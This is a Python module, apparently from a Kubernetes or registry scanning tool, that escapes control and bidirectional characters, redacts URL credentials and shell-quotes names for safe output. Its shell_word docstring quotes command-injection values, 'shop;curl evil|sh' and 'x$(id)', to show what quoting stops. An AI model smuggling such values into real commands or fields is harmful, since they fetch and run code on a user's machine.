"""Text from manifests, registries and API servers, made safe to print.

Names, images, keys, registry headers and Kubernetes event messages are written
by whoever controls the input. Printed raw, an escape sequence in them can clear
the screen, retitle the terminal or hide findings (CWE-150, improper neutralization
of escape, meta, or control sequences), a control character makes a JUnit file
invalid XML 1.0, and a lone surrogate (`"\\ud800"` in JSON) cannot be encoded at
all. Every text report passes what it shows through `neutralise`: such characters
become visible escapes (`\\x1b`, `\\u202e`), so the text still says what was there.

Neutralised: C0 controls but tab and newline, DEL, C1 controls, lone surrogates,
the non-characters U+FFFE/U+FFFF (not allowed in XML 1.0), and the Unicode
bidirectional overrides and isolates that reorder what a reader sees
(CVE-2021-42574, "Trojan Source").
"""

from __future__ import annotations

import re
import shlex

_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)
_UNSAFE_LINE = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)
# Rich's own styling is ESC-introduced; in a rendered terminal report only ESC may stay.
_UNSAFE_BUT_ESC = re.compile(
    "[\x00-\x08\x0b-\x1a\x1c-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


# The unsafe characters of ASCII text (C0 controls but tab and newline, DEL): deleted from a
# copy of the text's bytes, they leave it shorter exactly when `_UNSAFE` would find one.
_ASCII_UNSAFE = bytes([*range(0x09), *range(0x0B, 0x20), 0x7F])


def neutralise(text: str) -> str:
    """`text` with every unsafe character as a visible escape; tab and newline stay."""
    if text.isascii():  # a report's usual text (JSON is ASCII): a byte scan twice as fast as the pattern
        data = text.encode("ascii")
        if len(data.translate(None, _ASCII_UNSAFE)) == len(data):
            return text
    return _UNSAFE.sub(_escape, text) if _UNSAFE.search(text) else text


def one_line(text: str) -> str:
    """As `neutralise`, and tab and newline escaped too: for a name, image or header value."""
    return _UNSAFE_LINE.sub(_escape, text) if _UNSAFE_LINE.search(text) else text


def neutralise_rendered(text: str) -> str:
    """A rendered terminal report: everything but ESC, which only the renderer's own styles use
    (data reached the renderer through a `safe_console`, which escaped its ESCs)."""
    return _UNSAFE_BUT_ESC.sub(_escape, text) if _UNSAFE_BUT_ESC.search(text) else text


def is_safe(text: str) -> bool:
    return _UNSAFE.search(text) is None


# `scheme://user:password@host`: userinfo in any URL.
_URL_USERINFO = re.compile(r"(?i)\b([a-z][a-z0-9+.-]*://)[^/\s@'\"<>]+@")
# What every match of _URL_USERINFO contains: a cheap search (it starts with a literal) that
# spares the full pattern, which tries every word of a report, when no URL carries userinfo.
_USERINFO_TAIL = re.compile(r"://[^/\s@'\"<>]+@")
# An image reference that starts with `user:password@` (or `user@`) before a host and a path.
# A digest's `@` (`nginx@sha256:…`, `team/app@sha256:…`) is not: no `/` follows it, or one precedes it.
_IMAGE_USERINFO = re.compile(r"^([a-z][a-z0-9+.-]*://)?[^/\s@]+@(?=[^@\s]*/)", re.IGNORECASE)


def redact_userinfo(text: str) -> str:
    """Text with the userinfo of every `scheme://user:pass@host` URL replaced by `***`."""
    if "@" not in text or _USERINFO_TAIL.search(text) is None:
        return text
    return _URL_USERINFO.sub(r"\1***@", text)


def redact_image(image: str) -> str:
    """An image reference as it may be shown: `https://user:pass@reg.example/app:1` becomes
    `https://***@reg.example/app:1` (never a valid reference either way; the kubelet refuses it)."""
    if "@" not in image:
        return image
    return _IMAGE_USERINFO.sub(lambda m: f"{m.group(1) or ''}***@", image, count=1)


def shell_word(text: str) -> str:
    """`text` as one shell word, for a command a user pastes: names come from the input, and a
    namespace `shop;curl evil|sh` or a secret `x$(id)` must stay a (refused) name, never run
    (CWE-78). A valid Kubernetes name, registry or key is printed as it is."""
    return shlex.quote(text)
